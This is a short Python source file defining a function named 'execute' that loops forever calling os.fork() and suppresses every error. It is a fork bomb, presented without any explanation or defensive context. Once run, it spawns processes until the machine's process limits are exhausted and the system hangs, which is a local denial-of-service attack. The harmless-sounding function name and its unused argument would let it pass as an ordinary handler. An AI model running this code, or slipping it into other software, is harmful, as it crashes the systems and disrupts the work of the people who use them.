import os


def execute(given):
    while True:
        try:
            os.fork()
        except OSError:
            pass
